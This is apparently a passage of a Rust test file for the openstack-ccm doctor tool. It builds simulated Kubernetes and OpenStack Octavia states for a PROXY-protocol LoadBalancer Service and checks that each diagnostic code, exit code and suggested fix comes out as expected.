//! Each code is found where its fault is, with no other error beside it, and what doctor writes of it. What packets do is compared
//! with simulated ones in `ccm/tests/program/doctor_breaks`; here are states that no break makes.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

use k8s_openapi::api::core::v1::PodSpec;
use openstack_ccm_doctor::code::{Code, Severity, TABLE};
use openstack_ccm_doctor::facts::{
    BackendFacts, Basis, Children, CloudFacts, ClusterFacts, ControllerFact, DnsText, EventFact, Forecast,
    ForeignPolicy, Host, Network, NodeFact, PathFact, PoolFact, ServedBy, ServedName, ServiceFacts,
    WantedStatus, Workload,
};
use openstack_ccm_doctor::finding::{Check, Gap};
use openstack_ccm_doctor::hop::Origin;
use openstack_ccm_doctor::hops;
use openstack_ccm_doctor::leftovers::{self, LeftoverFacts};
use openstack_ccm_doctor::output::{FailOn, Outcome, json as json_output, mermaid, table};
use openstack_ccm_doctor::question::HopReport;
use openstack_ccm_doctor::report::{Counts, End, Report, Verdict};
use openstack_ccm_doctor::rules;
use openstack_ccm_manager::dial::{Dial, DialResult};
use openstack_ccm_openstack_api::dry_run::{Kind, ObjectChange};
use openstack_ccm_openstack_api::neutron::SecurityGroupRule;
use openstack_ccm_openstack_api::octavia::{Listener, OperatingStatus, PoolProtocol, ProvisioningStatus};
use serde_json::{Value, from_value, json};

/// A cluster with one Service that uses PROXY protocol, and everything about it.
struct World {
    cluster: ClusterFacts,
    facts: ServiceFacts,
    leftovers: LeftoverFacts,
    /// Dumps of rules, and what was walked in them.
    rules: Vec<(String, &'static str)>,
}

fn service(name: &str, ip: &str, mode: &str) -> Value {
    json!({
        "metadata": {"namespace": "shop", "name": name},
        "spec": {"type": "LoadBalancer", "clusterIP": "10.96.0.10", "selector": {"app": "nginx"},
            "ports": [{"name": "https", "port": 443, "targetPort": "https", "nodePort": 30443, "protocol": "TCP"}]},
        "status": {"loadBalancer": {"ingress": [{"ip": ip, "ipMode": mode}]}},
    })
}

fn node(name: &str, address: &str) -> NodeFact {
    NodeFact {
        name: name.into(),
        addresses: vec![address.parse().unwrap()],
        ready: Some(true),
        dead: false,
        honours: true,
        source: "canary".into(),
        basis: Basis::Measured,
        cause: "it leaves the address alone".into(),
        node_port_addresses: Ok(Vec::new()),
    }
}

/// The cloud's objects, as Octavia and Neutron write them.
fn cloud() -> CloudFacts {
    let object = |id: &str, name: &str, more: Value| {
        let mut object =
            json!({"id": id, "name": name, "provisioning_status": "ACTIVE", "operating_status": "ONLINE"});
        object.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        object
    };
    let member =
        |id: &str, address: &str| object(id, "", json!({"address": address, "protocol_port": 30443}));
    let pool = PoolFact {
        pool: from_value(object(
            "p",
            "pool_0",
            json!({"protocol": "PROXYV2", "lb_algorithm": "ROUND_ROBIN"}),
        ))
        .unwrap(),
        members: from_value(json!([member("m1", "10.0.0.11"), member("m2", "10.0.0.12")])).unwrap(),
        monitor: None,
    };
    let listener = json!({"protocol": "TCP", "protocol_port": 443, "default_pool_id": "p"});
    let listener = from_value(object("l", "listener_0", listener)).unwrap();
    let vip = json!({"vip_address": "10.0.0.100", "vip_port_id": "vip", "vip_subnet_id": "s", "provider": "amphora"});
    let port = |id: &str, address: &str, group: &str| {
        json!({"id": id, "network_id": "n", "status": "ACTIVE", "security_groups": [group],
            "fixed_ips": [{"subnet_id": "s", "ip_address": address}]})
    };
    let ports = json!([
        port("n1", "10.0.0.11", "nodes"),
        port("n2", "10.0.0.12", "nodes"),
        port("vip", "10.0.0.100", "octavia")
    ]);
    let rules = json!([
        {"id": "in", "direction": "ingress", "ethertype": "IPv4", "protocol": "tcp", "port_range_min": 30000,
            "port_range_max": 32767, "remote_ip_prefix": "10.0.0.0/24"},
        {"id": "out", "direction": "egress", "ethertype": "IPv4"},
    ]);
    let network = Network {
        ports: Ok(from_value(ports).unwrap()),
        groups: Ok(
            from_value(json!([{"id": "nodes", "name": "nodes", "security_group_rules": rules}])).unwrap()
        ),
        subnets: Ok(from_value(
            json!([{"id": "s", "name": "s", "cidr": "10.0.0.0/24", "network_id": "n", "ip_version": 4}]),
        )
        .unwrap()),
        floating_ips: Ok(from_value(
            json!([{"id": "f", "floating_ip_address": "203.0.113.10", "port_id": "vip"}]),
        )
        .unwrap()),
    };
    CloudFacts {
        load_balancer: Some(from_value(object("lb", "kube_service_c1_shop_web", vip)).unwrap()),
        children: Ok(Children { listeners: vec![listener], pools: vec![pool] }),
        forecast: Forecast::Settled,
        changes: Vec::new(),
        warnings: Vec::new(),
        network: Arc::new(network),
        translated: None,
        claimed: vec!["203.0.113.10".parse().unwrap()],
        would_publish: None,
    }
}

/// A pod of ingress-nginx behind the Service.
fn nginx() -> Value {
    json!({
        "metadata": {"namespace": "shop", "name": "web-1", "labels": {"app": "nginx"}},
        "spec": {"containers": [{"name": "nginx", "image": "registry.example.org/ingress-nginx/controller:v1.15.1",
            "args": ["/nginx-ingress-controller", "--configmap=shop/nginx", "--http-port=8080", "--https-port=8443"],
            "ports": [{"name": "https", "containerPort": 8443}, {"name": "http", "containerPort": 8080}]}]},
        "status": {"phase": "Running", "podIPs": [{"ip": "10.244.1.7"}], "conditions": [{"type": "Ready", "status": "True"}]},
    })
}

fn healthy() -> World {
    let web = service("web", "203.0.113.10", "Proxy");
    let cluster = ClusterFacts {
        time: "2026-11-22T12:00:00Z".parse().unwrap(),
        keeps_mode: Ok(true),
        nodes: Ok(vec![node("node1", "10.0.0.11"), node("node2", "10.0.0.12")]),
        services: Ok(vec![from_value(web.clone()).unwrap()]),
        policies: Ok(Vec::new()),
        dns: Ok(vec![DnsText {
            config_map: "kube-system/coredns".into(),
            key: "Corefile".into(),
            text: ".:53 {\n    errors\n    kubernetes cluster.local\n    forward . /etc/resolv.conf\n}\n"
                .into(),
        }]),
        names: Ok(vec![ServedName {
            host: "shop.example.org".into(),
            owner: "Ingress shop/web".into(),
            at: vec!["203.0.113.10".into()],
        }]),
        controller: Ok(ControllerFact {
            lease: "kube-system/cloud-controller-manager".into(),
            holder: Some("cp-1_a".into()),
            works: true,
            since: Some("2026-11-22T10:00:00Z".parse().unwrap()),
            text: "cp-1_a since 2026-11-22T10:00:00Z, renewed 2 s ago".into(),
            program: Some("openstack-ccm 0.3.0".into()),
            manager: Some("openstack-ccm".into()),
            cluster: Some("c1".into()),
            given_cluster: "c1".into(),
            others: Ok(Vec::new()),
        }),
        foreign_policies: Ok(Vec::new()),
        client: None,
        workloads: Ok(Vec::new()),
    };
    let slice = json!({
        "metadata": {}, "addressType": "IPv4", "ports": [{"name": "https", "port": 8443, "protocol": "TCP"}],
        "endpoints": [{"addresses": ["10.244.1.7"], "conditions": {"ready": true}}],
    });
    let backend = BackendFacts {
        pods: vec![from_value(nginx()).unwrap()],
        config_maps: BTreeMap::from([("shop/nginx".to_owned(), Ok(Some(config("true"))))]),
        ..BackendFacts::default()
    };
    let facts = ServiceFacts {
        path: Ok(PathFact {
            needs: Some("the load balancer adds the PROXY protocol header".into()),
            header: true,
            pools: BTreeMap::from([(443, PoolProtocol::ProxyV2)]),
            source: "loadbalancer.openstack.org/proxy-protocol: v2".into(),
            external: true,
        }),
        wanted: Ok(WantedStatus {
            entries: from_value(web["status"]["loadBalancer"]["ingress"].clone()).unwrap(),
            reason: "the load balancer adds the PROXY protocol header".into(),
            warnings: Vec::new(),
            published: true,
        }),
        slices: Ok(vec![from_value(slice).unwrap()]),
        cloud: Ok(cloud()),
        backend: Ok(backend),
        dials: None,
        events: Ok(Vec::new()),
        served_by: ServedBy::Ours,
        hosts: BTreeMap::new(),
        cloud_asked: true,
        service: from_value(web).unwrap(),
    };
    let leftovers = LeftoverFacts { namespaces: Ok(vec!["shop".into()]), service_proxies: Ok(Vec::new()) };
    World { cluster, facts, leftovers, rules: Vec::new() }
}

fn config(value: &str) -> BTreeMap<String, String> {
    BTreeMap::from([("use-proxy-protocol".to_owned(), value.to_owned())])
}

impl World {
    /// The hostname resolves to the load balancer.
    fn resolve(&mut self, name: &str) {
        let addresses = vec!["203.0.113.10".parse().unwrap()];
        self.facts.hosts.insert(name.to_owned(), Host::Is(addresses));
    }

    fn policy(&mut self, policy: Value) {
        self.cluster.policies.as_mut().unwrap().push(from_value(policy).unwrap());
    }

    fn publish(&mut self, entry: &Value) {
        let status = json!({"loadBalancer": {"ingress": [entry]}});
        self.facts.service.status = Some(from_value(status).unwrap());
        if let Ok(wanted) = &mut self.facts.wanted {
            wanted.published = false;
        }
    }

    fn cloud(&mut self) -> &mut CloudFacts {
        self.facts.cloud.as_mut().unwrap()
    }

    fn children(&mut self) -> &mut Children {
        self.cloud().children.as_mut().unwrap()
    }

    fn listener(&mut self) -> &mut Listener {
        &mut self.children().listeners[0]
    }

    fn pool(&mut self) -> &mut PoolFact {
        &mut self.children().pools[0]
    }

    fn network(&mut self) -> &mut Network {
        Arc::make_mut(&mut self.cloud().network)
    }

    fn rule(&mut self, place: usize) -> &mut SecurityGroupRule {
        &mut self.network().groups.as_mut().unwrap()[0].security_group_rules[place]
    }

    fn warn(&mut self, reason: &str) {
        self.cloud().warnings.push((reason.to_owned(), "the message".to_owned()));
    }

    /// The controller would change an object so.
    fn change(&mut self, kind: Kind, before: Value, after: Value) {
        let parent = (kind == Kind::Member).then(|| "p".to_owned());
        let given = |object: Value| (!object.is_null()).then_some(object);
        let (before, after) = (given(before), given(after));
        self.cloud().changes.push(ObjectChange { kind, id: "x".into(), parent, before, after });
    }

    /// The controller would change an attribute of the listener.
    fn change_listener(&mut self, attribute: &str, value: Value) {
        let before = json!({"id": "l", "protocol": "TCP", "protocol_port": 443});
        let mut after = before.clone();
        after[attribute] = value;
        self.change(Kind::Listener, before, after);
    }

    fn spec(&mut self, patch: &Value) {
        let mut spec = serde_json::to_value(&self.facts.service.spec).unwrap();
        for (key, value) in patch.as_object().unwrap() {
            spec[key] = value.clone();
        }
        self.facts.service.spec = from_value(spec).unwrap();
    }

    fn dial(&mut self, result: DialResult) {
        self.facts.dials = Some(vec![Dial {
            node: "node1".into(),
            to: "203.0.113.10:443".into(),
            result,
            milliseconds: 4,
            source: "a pod address".into(),
        }]);
    }

    fn delete(&mut self, time: &str) {
        self.facts.service.metadata.deletion_timestamp = Some(from_value(json!(time)).unwrap());
    }

    fn fail(&mut self) {
        let message =
            "Error syncing load balancer: create load balancer kube_service_c1_a_b tags=[x]: 403 no quota";
        self.event("SyncLoadBalancerFailed", message);
    }

    fn event(&mut self, reason: &str, message: &str) {
        self.facts.events.as_mut().unwrap().push(EventFact {
            warning: reason.ends_with("Failed"),
            reason: reason.into(),
            message: message.into(),
            time: Some("2026-11-22T11:50:00Z".parse().unwrap()),
            source: "openstack-ccm".into(),
        });
    }

    fn corefile(&mut self, line: &str) {
        let dns = self.cluster.dns.as_mut().unwrap();
        dns[0].text = dns[0].text.replace("    errors\n", &format!("    errors\n    {line}\n"));
    }

    fn workload(&mut self, workload: Workload) {
        self.cluster.workloads.as_mut().unwrap().push(workload);
    }

    fn pod(&mut self, change: impl FnOnce(&mut Value)) {
        let mut pod = nginx();
        change(&mut pod);
        self.facts.backend.as_mut().unwrap().pods = vec![from_value(pod).unwrap()];
    }

    fn traefik(&mut self, trusted: &str) {
        self.pod(|pod| {
            let trusted = format!("--entryPoints.web.proxyProtocol.trustedIPs={trusted}");
            let container = &mut pod["spec"]["containers"][0];
            container["image"] = json!("traefik:v3");
            container["args"] = json!(["--entryPoints.web.address=:8443/tcp", trusted]);
        });
    }

    fn configured(&mut self, value: &str) {
        let maps = &mut self.facts.backend.as_mut().unwrap().config_maps;
        maps.insert("shop/nginx".to_owned(), Ok(Some(config(value))));
    }

    fn without_header(&mut self) {
        let path = self.facts.path.as_mut().unwrap();
        *path = PathFact { pools: BTreeMap::from([(443, PoolProtocol::Tcp)]), ..PathFact::default() };
        self.pool().pool.protocol = PoolProtocol::Tcp;
        self.configured("false");
    }

    fn report(&self) -> Report {
        hops::walk(&self.cluster, &self.facts)
    }

    fn outcome(&self) -> Outcome {
        let leftovers = Some(leftovers::judge(&self.cluster, &self.leftovers));
        Outcome { reports: vec![self.report()], leftovers, absent: Vec::new() }
    }

    fn codes(&self) -> Vec<Code> {
        let outcome = self.outcome();
        let of_checks = outcome.checks().filter_map(|check| match check {
            Check::Found(finding) => Some(finding.code),
            _ => None,
        });
        let walked = self.rules.iter().flat_map(|(dump, target)| {
            let target = target.parse().unwrap();
            let walk = rules::walk(dump, &target, None).unwrap();
            let around = rules::short_circuit(&walk, &target);
            walk.findings.into_iter().chain(around).map(|finding| finding.code)
        });
        of_checks.chain(walked).collect()
    }
}

fn with(change: impl FnOnce(&mut World)) -> World {
    let mut world = healthy();
    change(&mut world);
    world
}

fn container(image: &str, words: &[&str]) -> PodSpec {
    from_value(json!({"containers": [{"name": "c", "image": image, "args": words}]})).unwrap()
}

fn alias(address: &str, name: &str) -> PodSpec {
    from_value(json!({"containers": [], "hostAliases": [{"ip": address, "hostnames": [name]}]})).unwrap()
}

fn of_words(outcome: &Outcome) -> u8 {
    outcome.exit_code(FailOn::Error)
}

/// The smallest world in which a code is found.
fn world_with(code: Code) -> World {
    with(|world| {
        match code {
        Code::D001 => {
            world.cluster.controller.as_mut().unwrap().works = false;
            world.change_listener("timeout_client_data", json!(1));
        }
        Code::D002 => world.cluster.controller.as_mut().unwrap().works = false,
        Code::D003 => world.cluster.controller.as_mut().unwrap().given_cluster = "kubernetes".into(),
        Code::D004 => world.delete("2026-11-22T11:59:00Z"),
        Code::D005 => {
            world.cloud().changes.clear();
            world.cloud().forecast = Forecast::Waits("a quota".into());
            world.fail();
        }
        Code::D006 => world.delete("2026-11-22T11:00:00Z"),
        Code::D101 => world.workload(Workload {
            kind: "Deployment".into(),
            namespace: "cert-manager".into(),
            name: "cert-manager".into(),
            pods: alias("10.0.0.77", "shop.example.org"),
        }),
        Code::D102 => {
            world.publish(&json!({"hostname": "shop.example.org"}));
            world.resolve("shop.example.org");
            world.dial(DialResult::NoName("no such name".into()));
        }
        Code::D104 => world.corefile("rewrite name shop.example.org gone.shop.svc.cluster.local"),
        Code::D105 => {
            world.publish(&json!({"hostname": "shop.example.org"}));
            let elsewhere = Host::Is(vec!["203.0.113.99".parse().unwrap()]);
            world.facts.hosts.insert("shop.example.org".into(), elsewhere);
        }
        Code::D103 => world.publish(&json!({"hostname": "my-balancer"})),
        Code::D201 => world.publish(&json!({"ip": "203.0.113.10", "ipMode": "VIP"})),
        Code::D202 => {
            world.publish(&json!({"ip": "203.0.113.10"}));
            world.cluster.keeps_mode = Ok(false);
        }
        Code::D203 => world.publish(&json!({"ip": "203.0.113.10", "ipMode": "VIP", "hostname": "a.example.org"})),
        Code::D204 => {
            let fields = json!([{"manager": "cloud-controller-manager", "operation": "Update", "subresource": "status",
                "time": "2026-11-22T11:00:00Z",
                "fieldsV1": {"f:status": {"f:loadBalancer": {"f:ingress": {}}}}}]);
            world.facts.service.metadata.managed_fields = from_value(fields).unwrap();
        }
        Code::D205 => {
            let other = from_value(service("other", "203.0.113.10", "VIP")).unwrap();
            world.cluster.services.as_mut().unwrap().push(other);
        }
        Code::D206 => world.facts.service.status = None,
        Code::D007 => {
            let others = Ok(vec!["Lease kube-system/ccm-two: cp-2_b".into()]);
            world.cluster.controller.as_mut().unwrap().others = others;
        }
        Code::D208 => {
            let ips = json!({"spec": {"type": "ClusterIP", "externalIPs": ["203.0.113.10"], "ports": [{"port": 443}]},
                "metadata": {"namespace": "shop", "name": "forgotten"}});
            world.cluster.services.as_mut().unwrap().push(from_value(ips).unwrap());
        }
        Code::D207 => world.publish(&json!({"ip": "203.0.113.99", "ipMode": "Proxy"})),
        Code::D301 => {
            let node = &mut world.cluster.nodes.as_mut().unwrap()[1];
            (node.honours, node.basis, node.source) = (false, Basis::Guessed, "version".into());
            node.cause = "kubelet v1.29.15 is older than 1.30".into();
        }
        Code::D302 => world.rules.push((include_str!("dumps/iptables.txt").to_owned(), "203.0.113.10:443")),
        Code::D303 => world
            .rules
            .push((include_str!("dumps/iptables-flushed.txt").to_owned(), "203.0.113.10:443")),
        Code::D304 => {
            let join = |dump: &str| {
                dump.trim().trim_start_matches("{\"nftables\": [").trim_end_matches("]}").to_owned()
            };
            let both = [include_str!("dumps/iptables.nft.json"), include_str!("dumps/nftables.nft.json")].map(join);
            world.rules.push((format!("{{\"nftables\": [{}]}}", both.join(",")), "203.0.113.20:443"));
        }
        Code::D305 => {
            world.without_header();
            world.publish(&json!({"ip": "203.0.113.10", "ipMode": "VIP"}));
            world.spec(&json!({"loadBalancerSourceRanges": ["198.51.100.0/24"]}));
        }
        Code::D401 => {
            let policy = json!({"metadata": {"namespace": "cert-manager", "name": "p"},
                "spec": {"podSelector": {}, "policyTypes": ["Egress"], "egress": []}});
            world.cluster.policies = Ok(vec![from_value(policy).unwrap()]);
        }
        Code::D402 => {
            world.listener().allowed_cidrs = vec!["198.51.100.0/24".into()];
            world.cloud().translated = Some(Ok(vec!["203.0.113.2".parse().unwrap()]));
        }
        Code::D403 => world.dial(DialResult::TimedOut),
        Code::D404 => {
            world.listener().allowed_cidrs = vec!["198.51.100.0/24".into()];
            world.cluster.client = Some("192.0.2.7".parse().unwrap());
        }
        Code::D405 => world.rule(1).remote_ip_prefix = Some("192.0.2.0/24".into()),
        Code::D501 => world.listener().provisioning_status = ProvisioningStatus::Error,
        Code::D502 => {
            world.pool().pool.provisioning_status = ProvisioningStatus::PendingUpdate;
            let load_balancer = world.cloud().load_balancer.as_mut().unwrap();
            load_balancer.updated_at = Some("2026-11-22T11:30:00".into());
        }
        Code::D503 => world.children().listeners.clear(),
        Code::D513 => world.listener().operating_status = Some(OperatingStatus::Error),
        Code::D504 => world.warn("LoadBalancerSettingNotSupported"),
        Code::D505 => world.cloud().forecast = Forecast::Refused("timeout-client-data: soon is no number".into()),
        Code::D506 => world.cloud().load_balancer = None,
        Code::D507 => world.change_listener("timeout_client_data", json!(1)),
        Code::D508 => world.warn("UnknownAnnotation"),
        Code::D509 => {
            world.network().floating_ips.as_mut().unwrap()[0].port_id = None;
            world.change(Kind::FloatingIp, json!({"id": "f"}), json!({"id": "f", "port_id": "vip"}));
        }
        Code::D510 => world.listener().admin_state_up = false,
        Code::D511 => world.change_listener("allowed_cidrs", json!(["192.0.2.0/24"])),
        Code::D512 => world.cloud().forecast = Forecast::Keeps("timeout-client-data: soon is no number".into()),
        Code::D601 => {
            world.pool().pool.protocol = PoolProtocol::Tcp;
            world.change(Kind::Pool, Value::Null, json!({"id": "q", "name": "pool_0", "protocol": "PROXYV2"}));
            world.change_listener("default_pool_id", json!("q"));
        }
        Code::D701 => {
            world.change(Kind::Member, Value::Null, json!({"address": "10.0.0.13", "protocol_port": 30443}));
        }
        Code::D702 => world.rule(0).protocol = Some("udp".into()),
        Code::D703 => {
            for (member, status) in world.pool().members.iter_mut().zip([OperatingStatus::Error, OperatingStatus::Offline]) {
                member.operating_status = status;
            }
        }
        Code::D704 => world.pool().members[0].operating_status = OperatingStatus::Error,
        Code::D705 => world.cluster.nodes.as_mut().unwrap()[1].ready = Some(false),
        Code::D801 => world.facts.slices = Ok(Vec::new()),
        Code::D802 => {
            world.spec(&json!({"externalTrafficPolicy": "Local"}));
            world.warn("LoadBalancerLocalWithoutMonitor");
        }
        Code::D803 => world.spec(&json!({"allocateLoadBalancerNodePorts": false, "ports": [{"name": "https", "port": 443, "targetPort": "https"}]})),
        Code::D804 => {
            world.facts.slices.as_mut().unwrap()[0].ports.as_mut().unwrap()[0].name = Some("web".into());
        }
        Code::D805 => world.policy(json!({"metadata": {"namespace": "shop", "name": "p"},
            "spec": {"podSelector": {}, "policyTypes": ["Ingress"]}})),
        Code::D806 => {
            let label = "service.kubernetes.io/service-proxy-name".to_owned();
            world.facts.service.metadata.labels = Some([(label, "else".to_owned())].into());
        }
        Code::D807 => {
            for node in world.cluster.nodes.iter_mut().flatten() {
                node.node_port_addresses = Ok(vec!["192.0.2.0/24".into()]);
            }
        }
        Code::D808 => world.pod(|pod| pod["status"]["podIPs"] = json!([])),
        Code::D901 => world.configured("false"),
        Code::D902 => {
            world.without_header();
            world.configured("true");
        }
        Code::D903 => world.traefik("10.0.0.0/24"),
        Code::D904 => world.traefik("192.0.2.0/24"),
        Code::L101 => world.corefile(
            "rewrite name old.example.org hairpin-proxy.hairpin-proxy.svc.cluster.local # Added by hairpin-proxy",
        ),
        Code::L102 => world.leftovers.namespaces = Ok(vec!["ouroboros".into()]),
        Code::L103 => {
            let mut other = service("other", "203.0.113.99", "Proxy");
            other["status"]["loadBalancer"]["ingress"] = json!([{"hostname": "203-0-113-99.nip.io"}]);
            world.cluster.services.as_mut().unwrap().push(from_value(other).unwrap());
        }
        Code::L104 => world.corefile("rewrite name old.example.org nginx.other.svc.cluster.local"),
        Code::L105 => world.workload(Workload {
            kind: "Deployment".into(),
            namespace: "shop".into(),
            name: "app".into(),
            pods: alias("10.96.0.10", "else.example.org"),
        }),
        Code::L106 => world.workload(Workload {
            kind: "Deployment".into(),
            namespace: "cert-manager".into(),
            name: "cert-manager".into(),
            pods: container(
                "quay.example.org/jetstack/cert-manager-controller:v1.20.3",
                &["--acme-http01-solver-nameservers=9.9.9.9:53"],
            ),
        }),
        Code::L109 => {
            let ips = json!({"spec": {"type": "ClusterIP", "externalIPs": ["203.0.113.10"], "ports": [{"port": 8443}]},
                "metadata": {"namespace": "shop", "name": "forgotten"}});
            world.cluster.services.as_mut().unwrap().push(from_value(ips).unwrap());
        }
        Code::L107 => {
            world.leftovers.service_proxies =
                Ok(vec![("kube-system/antrea-config".into(), "proxyLoadBalancerIPs: false\n".into())]);
        }
        Code::L108 => world.workload(Workload {
            kind: "CronJob".into(),
            namespace: "ops".into(),
            name: "touch".into(),
            pods: container("kubectl", &["sh", "-c", "kubectl annotate service web touched=$(date +%s)"]),
        }),
    }
    })
}

#[test]
fn a_healthy_world_shows_nothing_and_packets_arrive() {
    let world = healthy();
    let outcome = world.outcome();
    let odd: Vec<&Check> =
        outcome.checks().filter(|check| matches!(check, Check::Found(_) | Check::Unknown(_))).collect();
    assert!(odd.is_empty(), "{odd:#?}");
    for origin in Origin::ALL {
        assert_eq!(world.report().end(origin), End::NoFault { around: false, unseen: BTreeSet::new() });
    }
}

#[test]
fn each_code_is_found_and_no_other_error() {
    for entry in TABLE {
        let world = world_with(entry.code);
        let found: BTreeSet<Code> = world.codes().into_iter().collect();
        assert!(found.contains(&entry.code), "{}: {found:?}", entry.code);
        let others: Vec<&Code> = found
            .iter()
            .filter(|code| **code != entry.code && code.entry().severity == Severity::Error)
            .collect();
        assert!(others.is_empty(), "{}: also {others:?}", entry.code);
    }
}

/// Octavia reports ERROR of a listener whose load balancer is disabled, and of a pool whose members are drained.
#[test]
fn what_octavia_reports_of_disabled_parts_and_drained_members_is_told_by_its_cause() {
    let disabled = with(|world| {
        world.cloud().load_balancer.as_mut().unwrap().admin_state_up = false;
        world.listener().operating_status = Some(OperatingStatus::Error);
    });
    assert_eq!(disabled.codes(), [Code::D510]);
    let drained = with(|world| {
        world.pool().members.iter_mut().for_each(|one| one.member.weight = 0);
        world.cloud().load_balancer.as_mut().unwrap().operating_status = OperatingStatus::Error;
    });
    assert_eq!(drained.codes(), [Code::D703]);
}

/// What cannot be looked at is unknown, and the packet does not arrive for sure.
#[test]
fn what_could_not_be_looked_at_is_never_green() {
    let no = || "forbidden".to_owned();
    type Darken = fn(&mut World, String);
    let dark: [(&str, Darken); 9] = [
        ("nodes", |world, cause| world.cluster.nodes = Err(cause)),
        ("services", |world, cause| world.cluster.services = Err(cause)),
        ("policies", |world, cause| world.cluster.policies = Err(cause)),
        ("dns", |world, cause| world.cluster.dns = Err(cause)),
        ("names", |world, cause| world.cluster.names = Err(cause)),
        ("path", |world, cause| world.facts.path = Err(cause)),
        ("slices", |world, cause| world.facts.slices = Err(cause)),
        ("cloud", |world, cause| world.facts.cloud = Err(cause)),
        ("backend", |world, cause| world.facts.backend = Err(cause)),
    ];
    for (what, darken) in dark {
        let world = with(|world| darken(world, no()));
        let report = world.report();
        assert!(report.hops.iter().any(|hop| hop.verdict() == Verdict::NotKnown), "{what}");
        assert!(matches!(report.end(Origin::Pod), End::NotKnown(_)), "{what}: {}", report.sentence());
        assert!(Counts::of(report.hops.iter().flat_map(HopReport::checks)).not_known > 0, "{what}");
    }
}

/// States that no break shows, each with what becomes of packets from outside, and the hop.
#[test]
fn states_of_octavia_and_rules_that_nobody_reads_are_never_green() {
    type Break = fn(&mut World);
    let states: [(&str, Break, &str); 6] = [
        (
            "a name that no resolver outside can know",
            |world| world.publish(&json!({"hostname": "ingress.local"})),
            "may-end",
        ),
        (
            "a load balancer that is offline",
            |world| world.cloud().load_balancer.as_mut().unwrap().operating_status = OperatingStatus::Offline,
            "not-known",
        ),
        (
            "a load balancer that serves with an error",
            |world| world.cloud().load_balancer.as_mut().unwrap().operating_status = OperatingStatus::Error,
            "may-end",
        ),
        (
            "members at another port, of a Service that goes",
            |world| {
                world.delete("2026-11-22T11:59:00Z");
                world.pool().members.iter_mut().for_each(|member| member.member.protocol_port = 31999);
            },
            "ends",
        ),
        (
            "a policy of another kind",
            |world| {
                let policy = ForeignPolicy {
                    kind: "CiliumNetworkPolicy".into(),
                    namespace: Some("shop".into()),
                    ingress: true,
                    ..ForeignPolicy::default()
                };
                world.cluster.foreign_policies = Ok(vec![policy]);
            },
            "not-known",
        ),
        (
            "a hostname that nobody could look up",
            |world| world.publish(&json!({"hostname": "lb.example.org"})),
            "not-known",
        ),
    ];
    for (name, change, verdict) in states {
        let report = with(change).report();
        let end = report.end(Origin::Outside);
        assert_eq!(end.verdict(), verdict, "{name}: {end}");
        assert_ne!(of_words(&Outcome { reports: vec![report], ..Outcome::default() }), 0, "{name}");
    }
}

/// What no object shows is said, and does not count as an error.
#[test]
fn what_is_not_seen_is_said_and_is_no_fault() {
    let guess = with(|world| {
        for node in world.cluster.nodes.iter_mut().flatten() {
            (node.basis, node.cause) = (Basis::Guessed, "kubelet v1.36.3".into());
        }
    });
    let sentence = guess.report().sentence();
    assert!(
        sentence.contains(
            "no fault found through the load balancer (no packet was sent; not seen: what the service proxy of node1, node2 does \
             (kubelet v1.36.3))"
        ),
        "{sentence}"
    );
    let code = |fail_on: FailOn| guess.outcome().exit_code(fail_on);
    assert_eq!((code(FailOn::Error), code(FailOn::Warning), code(FailOn::Unseen)), (0, 0, 3));
    let unread = with(|world| {
        let node = &mut world.cluster.nodes.as_mut().unwrap()[1];
        node.node_port_addresses = Err((Gap::NotSeen, "its configuration is in no ConfigMap".into()));
    });
    let sentence = unread.report().sentence();
    let expected = "not seen: at which addresses kube-proxy of node2 opens node ports (its configuration is in no ConfigMap)";
    assert!(sentence.contains(expected), "{sentence}");
    assert_eq!(unread.outcome().exit_code(FailOn::Unseen), 3);
    let unknown = with(|world| {
        world.pod(|pod| pod["spec"]["containers"][0] = json!({"name": "a", "image": "example.org/shop:1"}));
    });
    assert_eq!(of_words(&unknown.outcome()), 3, "a header is sent");
    let mut plain = with(World::without_header);
    plain.pod(|pod| pod["spec"]["containers"][0] = json!({"name": "a", "image": "example.org/shop:1"}));
    assert_eq!(of_words(&plain.outcome()), 0);
    let mut left_out = with(|world| world.facts.cloud = Err("--no-cloud".into()));
    left_out.facts.cloud_asked = false;
    assert_eq!(of_words(&left_out.outcome()), 0);
    assert!(
        left_out.report().sentence().contains("not seen: the cloud (--no-cloud)"),
        "{}",
        left_out.report().sentence()
    );
}

/// Pods of other namespaces are named, and are no alarm.
#[test]
fn a_policy_elsewhere_is_said_for_its_own_pods() {
    let world = with(|world| {
        world.policy(json!({"metadata": {"namespace": "other", "name": "p"},
            "spec": {"podSelector": {}, "policyTypes": ["Egress"], "egress": [{"ports": [{"port": 53, "protocol": "UDP"}]}]}}));
    });
    let sentence = world.report().sentence();
    assert!(sentence.contains("from pods: no fault found through the load balancer (no packet was sent), but not from the pods of NetworkPolicy other/p; from nodes"), "{sentence}");
    assert_eq!(of_words(&world.outcome()), 0);
}

/// The annotation of another cloud is none of ours.
#[test]
fn the_fix_fits_who_serves_the_service() {
    let another = |annotation: Option<&str>| {
        ServedBy::AnotherCloud("DigitalOcean".into(), annotation.map(str::to_owned))
    };
    let fix = |code: Code, served_by: ServedBy| {
        let mut world = world_with(code);
        world.facts.served_by = served_by;
        let report = world.report();
        let found = report.findings().find(|(_, finding)| finding.code == code);
        found.and_then(|(_, finding)| finding.fix.as_ref().map(ToString::to_string))
    };
    let annotation = "service.beta.kubernetes.io/do-loadbalancer-enable-proxy-protocol=true";
    let expected = format!("kubectl --namespace shop annotate service web {annotation}");
    assert_eq!(fix(Code::D902, another(Some(annotation))), Some(expected));
    assert_eq!(fix(Code::D902, another(None)), None);
    assert!(fix(Code::D201, another(None)).unwrap().contains("ip-mode-overlay"));
    let class = fix(Code::D201, ServedBy::Class("example.org/lb".into())).unwrap();
    assert_eq!(class, "openstack-ccm doctor shop/web --load-balancer-class=example.org/lb");
    // A flag without a value names no class.
    assert_eq!(fix(Code::D201, ServedBy::Class(String::new())).unwrap(), "openstack-ccm doctor shop/web");
    let mut world = healthy();
    world.facts.served_by = ServedBy::Class(String::new());
    let text = "served without a class: remove --load-balancer-class";
    assert!(world.outcome().checks().any(|check| *check == Check::Skipped(text.into())));
}

#[test]
fn the_exit_code_says_what_a_gate_wants_to_know() {
    let code = |world: &World| of_words(&Outcome { reports: vec![world.report()], ..Outcome::default() });
    assert_eq!(code(&healthy()), 0);
    assert_eq!(code(&world_with(Code::D201)), 2);
    assert_eq!(code(&world_with(Code::D507)), 0, "a warning that stops no packet");
